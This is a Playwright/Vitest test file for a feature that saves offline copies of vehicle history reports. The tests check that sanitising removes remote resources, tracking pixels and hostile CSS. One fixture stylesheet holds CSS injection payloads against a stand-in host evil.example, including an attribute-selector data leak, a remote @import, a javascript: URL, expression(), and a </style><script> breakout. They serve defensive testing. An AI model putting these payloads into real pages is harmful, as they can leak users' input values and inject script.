// A complete copy's document (issue 38), read off the sanitising pass, in real Chromium (happy-dom
// implements too little of the DOM for DOMPurify: see report-sanitiser.test.ts). What a copy needs is
// listed from the document the walls keep (the simulator's report, modelled on the larger provider's
// real HTML: a stylesheet and a web font on its CDN, a remote seal image, its data in a state script,
// a tracking pixel in <noscript>, hostile parts aimed at the service); the copy's files are then
// joined in as <style> and data: URIs, and nothing remote survives, whatever its stylesheets try.
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { CopyFiles, ResourceRef } from '@/lib/reports/offline/copy-resources';
import { cssText } from '@/lib/reports/offline/copy-resources';
import { renderReportHtml } from '@/simulator/report-html';
import { bundlePage } from '../support/bundle-page';

let browser: Browser;
let page: Page;

beforeAll(async () => {
  ({ browser, page } = await bundlePage(
    `import DOMPurify from 'dompurify';
        import { reportDocument, reportResources } from './lib/reports/report-document';
        import { copyResources } from './lib/reports/offline/copy-resources';
        window.vhl = { DOMPurify, reportDocument, reportResources, copyResources };`,
    'complete copy',
  ));
});
afterAll(() => browser?.close());

interface InPage {
  DOMPurify: unknown;
  reportDocument(html: string, tools: unknown, options: unknown): string;
  reportResources(html: string, tools: unknown): ResourceRef[];
  copyResources(files: CopyFiles): unknown;
}

const reportResources = (html: string) =>
  page.evaluate((html) => {
    const vhl = (window as unknown as { vhl: InPage }).vhl;
    return vhl.reportResources(html, { purify: vhl.DOMPurify, parser: new DOMParser() });
  }, html);

/** The document the viewer shows with a copy's files. */
const joined = (html: string, files: CopyFiles) =>
  page.evaluate(
    ([html, files]) => {
      const vhl = (window as unknown as { vhl: InPage }).vhl;
      return vhl.reportDocument(
        html,
        { purify: vhl.DOMPurify, parser: new DOMParser() },
        { allowRemote: false, resources: vhl.copyResources(files) },
      );
    },
    [html, files] as const,
  );

const CDN = 'https://cdn.autoledger.example';
const SERVICE = 'http://127.0.0.1:8787';
const html = renderReportHtml({
  provider: 'providerA',
  id: '90',
  vin: '1G1PG5SC3C7167133',
  yearMakeModel: '2012 Chevrolet Cruze LT',
  records: 12,
  createdAt: '2026-11-01T10:00:00.000Z',
  origin: SERVICE,
  cdnOrigin: CDN,
});
const b64 = (text: string) => Buffer.from(text).toString('base64');
const css = (text: string) => `data:text/css;base64,${b64(text)}`;
const png = `data:image/png;base64,${b64('PNG')}`;
const font = (name: string) => `data:font/woff2;base64,${b64(`wOF2 ${name}`)}`;

describe('what a complete copy needs', () => {
  it('lists the linked stylesheet, the remote image and the web font its own CSS names, and nothing the walls drop', async () => {
    const refs = await reportResources(html);
    const cdn = refs.filter((ref) => ref.url.startsWith(CDN));
    expect(cdn).toEqual([
      { url: `${CDN}/autoledger/report.css`, kind: 'stylesheet' },
      { url: `${CDN}/autoledger/fonts/ledger-sans.woff2`, kind: 'css-file' },
      { url: `${CDN}/autoledger/img/seal.svg`, kind: 'image' },
    ]);
    const urls = refs.map((ref) => ref.url).join(' ');
    // Not the script, not the <noscript> tracking pixel, not the hostile <base> or form.
    expect(urls).not.toContain('report.js');
    expect(urls).not.toContain('pixel.gif');
    expect(urls).not.toContain('what=form');
    expect(urls).not.toContain('what=meta-refresh');
    // The hostile CSS and photo aim at the service: listed here, refused by the downloader's policy
    // (test/unit/reports/download-copy.test.ts), and named in the viewer as never downloaded.
    expect(refs.filter((ref) => ref.url.startsWith(SERVICE)).map((ref) => ref.kind)).toEqual([
      'css-file',
      'image',
    ]);
  });

  it('leaves out a 1x1 image and one drawn nowhere (tracking pixels)', async () => {
    const doc = `<html><body><p>Report</p><img src="https://t.example/p.gif" width="1" height="1" alt=""><img src="https://t.example/q.gif" style="display: none" alt=""><img src="https://cdn.example/logo.png" width="120" height="40" alt="Logo"></body></html>`;
    expect(await reportResources(doc)).toEqual([{ url: 'https://cdn.example/logo.png', kind: 'image' }]);
  });
});

describe('a complete copy joined into the document', () => {
  const files = {
    [`${CDN}/autoledger/report.css`]: css(
      '@import url("theme.css") screen;@font-face{font-family:"Ledger Sans";font-weight:700;src:url(fonts/ledger-sans-bold.woff2) format("woff2")}body{background:url(img/paper.png)}',
    ),
    [`${CDN}/autoledger/theme.css`]: css(':root{--al-accent:#f2a900}'),
    [`${CDN}/autoledger/fonts/ledger-sans.woff2`]: font('regular'),
    [`${CDN}/autoledger/fonts/ledger-sans-bold.woff2`]: font('bold'),
    [`${CDN}/autoledger/img/paper.png`]: png,
    [`${CDN}/autoledger/img/seal.svg`]: `data:image/svg+xml;base64,${b64('<svg xmlns="http://www.w3.org/2000/svg"/>')}`,
  };

  it('brings the stylesheet in where it was linked, its @import flattened, every url() and image a data: URI', async () => {
    const doc = await joined(html, files);
    expect(doc).not.toContain(CDN);
    expect(doc).not.toContain('@import');
    expect(doc).not.toContain('data-vhl-sheet');
    // The import's media list kept: theme.css applies on screen, inside @media.
    expect(doc).toContain('@media screen{:root{--al-accent:#f2a900}}');
    expect(doc).toContain(`url("${font('bold')}")`);
    expect(doc).toContain(`url("${font('regular')}")`);
    expect(doc).toContain(`url("${png}")`);
    expect(doc).toMatch(/<img class="al-seal" src="data:image\/svg\+xml;base64,/);
    // The linked sheet comes before the report's own <style>, as in the report's head: same cascade.
    expect(doc.indexOf('--al-accent')).toBeLessThan(doc.indexOf('#vehicle-history-report{'));
    // The policy still loads nothing remote.
    expect(doc).toMatch(/img-src data:; style-src 'unsafe-inline'; font-src data:/);
  });

  it('a hostile stylesheet in the copy loads nothing: unknown imports, script URLs, other data: types, breakouts go', async () => {
    const hostile = {
      ...files,
      [`${CDN}/autoledger/report.css`]: css(
        [
          '@import url("https://evil.example/next.css");',
          '@import "theme.css";',
          'input[value^="a"]{background:url("https://evil.example/leak?a")}',
          '.x{background:url(javascript:alert(1))}',
          '.y{background:url("data:text/html;base64,PHNjcmlwdD4=")}',
          '.z{width:expression(alert(1));behavior:url(x.htc)}',
          '.w{background:u\\72l(https://evil.example/escaped)}',
          '.v{background-image:image-set("https://evil.example/set.png" 1x)}',
          '.u{content:"</style><script>alert(1)</script>"}',
        ].join('\n'),
      ),
    };
    const doc = await joined(html, hostile);
    expect(doc).not.toContain('evil.example');
    expect(doc).not.toContain('javascript:');
    expect(doc).not.toContain('data:text/html');
    expect(doc).not.toContain('expression(');
    expect(doc).not.toContain('behavior');
    expect(doc).not.toMatch(/<script/i);
    // What is not hostile stays: the report's own look, and the copy's sheet around the hostile rules
    // (a `<` in a string no longer makes DOMPurify drop the whole <style>).
    expect(doc).toContain('#vehicle-history-report{');
    expect(doc).toContain('--al-accent');
  });

  it('a stylesheet with "<" in a string, a comment or an inline SVG keeps every rule, and shows the same', async () => {
    const svg = `data:image/svg+xml;utf8,<svg xmlns='http://www.w3.org/2000/svg' width='8' height='8'><rect width='8' height='8' fill='red'/></svg>`;
    const withMarkupLikeText = {
      [`${CDN}/autoledger/report.css`]: css(
        `/* <main id="vehicle-history-report"> wraps the report */\n.report-id::before{content:"<b>"}\n.al-seal{background:url("${svg}")}\nbody{color:#123456}`,
      ),
    };
    const doc = await joined(html, withMarkupLikeText);
    expect(doc).toContain('body{color:#123456}');
    expect(doc).toContain('content:"\\3c b>"');
    // Rendered, the escape is the character: the generated content reads "<b>".
    const shown = await page.evaluate((doc) => {
      const frame = document.createElement('iframe');
      frame.srcdoc = doc;
      document.body.append(frame);
      return new Promise<string>((resolve) => {
        frame.onload = () => {
          const sub = frame.contentDocument?.querySelector('.report-id');
          resolve(sub ? getComputedStyle(sub, '::before').content : 'none');
        };
      });
    }, doc);
    expect(shown).toBe('"<b>"');
  });

  it('a stylesheet importing itself is brought in once', async () => {
    const looping = {
      [`${CDN}/autoledger/report.css`]: css('@import "report.css";body{color:#123456}'),
    };
    const doc = await joined(html, looping);
    expect(doc.match(/#123456/g)).toHaveLength(1);
    expect(cssText(looping[`${CDN}/autoledger/report.css`])).toContain('@import');
  });
});
